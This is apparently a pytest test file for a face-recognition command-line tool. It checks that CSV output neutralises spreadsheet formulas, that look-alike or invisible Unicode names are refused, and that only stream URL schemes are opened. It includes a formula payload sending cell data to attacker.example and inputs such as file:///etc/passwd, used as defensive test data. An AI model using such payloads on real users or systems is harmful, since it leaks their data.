"""What a name or a file name can carry: spreadsheet formulas through --csv, names that print alike (issue 24)."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess

from tests.helpers import FACECLI, json_rows, one_line_error

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


def _csv(stdout: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(stdout, newline="")))


def test_csv_cells_never_start_a_formula_and_json_is_unchanged(run, images):
    assert run("enroll", FORMULA, str(images / "obama.jpg")).returncode == 0
    assert run("enroll", "--", "-1 +2 @3", str(images / "biden.jpg")).returncode == 0
    listed = _csv(run("gallery", "list", "--csv").stdout)
    assert sorted(r["name"] for r in listed) == sorted(["'" + FORMULA, "'-1 +2 @3"])
    found = _csv(run("identify", str(images / "obama2.jpg"), "--csv", "--top-k", "2").stdout)[0]
    assert found["name"] == "'" + FORMULA and found["candidates_0_name"] == "'" + FORMULA
    assert float(found["distance"]) >= 0  # numbers stay numbers
    assert {r["name"] for r in json_rows(run("gallery", "list", "--json").stdout)} == {FORMULA, "-1 +2 @3"}


def test_names_that_print_alike_are_one_person_or_refused(run, images):
    nfc, nfd = "Jos\u00e9", "Jose\u0301"
    assert run("enroll", nfc, str(images / "obama.jpg")).returncode == 0
    claim = run("verify", str(images / "obama2.jpg"), "--claim", nfd, "--json")
    assert claim.returncode == 0 and json_rows(claim.stdout)[0]["claim"] == nfc
    one_line_error(run("enroll", nfc + "\u034f", str(images / "biden.jpg")), "invisible")
    one_line_error(run("enroll", "J\u043es\u00e9", str(images / "biden.jpg")), "looks like 'Jos\\xe9'")
    assert [r["name"] for r in json_rows(run("gallery", "list", "--json").stdout)] == [nfc]


def test_gallery_check_names_what_another_tool_wrote(run, images):
    assert run("enroll", "alice", str(images / "obama.jpg")).returncode == 0
    with sqlite3.connect(run.gallery) as conn:
        conn.execute("INSERT INTO persons (name, created) VALUES (CAST(x'ff6576' AS TEXT), 0)")  # not UTF-8
        conn.execute("INSERT INTO persons (name, created) VALUES (?, 0)", ("nul\x00name",))
    check = run("gallery", "check", "--json")
    problems = json_rows(check.stdout)[0]["problems"]
    assert check.returncode == 1 and "Traceback" not in check.stderr
    assert "person name b'\\xffev' is not UTF-8" in problems
    assert "person 'nul\\x00name': a name cannot hold control, formatting or invisible characters" in problems


def test_a_limit_past_reason_is_a_usage_error_up_front(run, images):
    assert run("enroll", "alice", str(images / "obama.jpg")).returncode == 0
    for command in ("identify", "search"):
        proc = run(command, str(images / "obama2.jpg"), "--top-k", "1000000000", "--csv")
        one_line_error(proc, "--top-k 1000000000", "between 1 and 1000")
        assert proc.stdout == ""


def test_watch_opens_only_the_stream_schemes_it_names(run, images):
    assert run("enroll", "alice", str(images / "obama.jpg")).returncode == 0
    for url in ("file:///etc/passwd", "tcp://127.0.0.1:9/", "unix:///tmp/facecli-no-such.sock",
                "FILE:///etc/hostname"):
        proc = run("watch", "--video", url)
        one_line_error(proc, url.split("://")[1], "not a stream facecli opens", "rtsp://")
        assert proc.stdout == ""


def test_json_lines_stay_utf8_for_file_names_that_are_not(images, tmp_path):
    name = b"ob\xffama.jpg"  # a name in Latin-1 from an old camera, not UTF-8
    (tmp_path / os.fsdecode(name)).write_bytes((images / "obama.jpg").read_bytes())
    env = dict(os.environ, FACECLI_DEVICE="cpu")
    proc = subprocess.run([FACECLI, "detect", str(tmp_path), "--json"], capture_output=True, env=env, timeout=300)
    assert proc.returncode == 0, proc.stderr
    (row,) = [json.loads(line) for line in proc.stdout.decode("utf-8").splitlines()]  # strict UTF-8, valid JSON
    assert os.fsencode(row["file"]).endswith(name)  # the name's bytes come back


def test_a_huge_line_on_stdin_is_reported_and_the_next_path_still_read(images):
    """Issue 24: a 100 MB line took 103 s (each read joined to all before it) before being tried as a path."""
    data = b"x" * 100_000_000 + b"\n" + os.fsencode(images / "obama.jpg") + b"\n"
    env = dict(os.environ, FACECLI_DEVICE="cpu")
    proc = subprocess.run([FACECLI, "detect", "-", "--json"], input=data, capture_output=True, env=env, timeout=120)
    rows = [json.loads(line) for line in proc.stdout.decode().splitlines()]
    assert proc.returncode == 2 and [r["file"] for r in rows if r.get("box")] == [str(images / "obama.jpg")]
    assert b"a line of 100000000 bytes on stdin: not a path" in proc.stderr


def test_cluster_needs_no_gallery_and_a_bad_lock_timeout_is_one_line(run, images):
    assert run("enroll", "alice", str(images / "obama.jpg")).returncode == 0  # a fusion gallery
    clustered = run("cluster", str(images / "obama2.jpg"), str(images / "biden.jpg"), "--model", "sface", "--json")
    assert clustered.returncode == 0 and len(json_rows(clustered.stdout)) == 2
    one_line_error(run("gallery", "list", env={"FACECLI_LOCK_TIMEOUT": "abc"}), "FACECLI_LOCK_TIMEOUT",
                   "not a number of seconds")
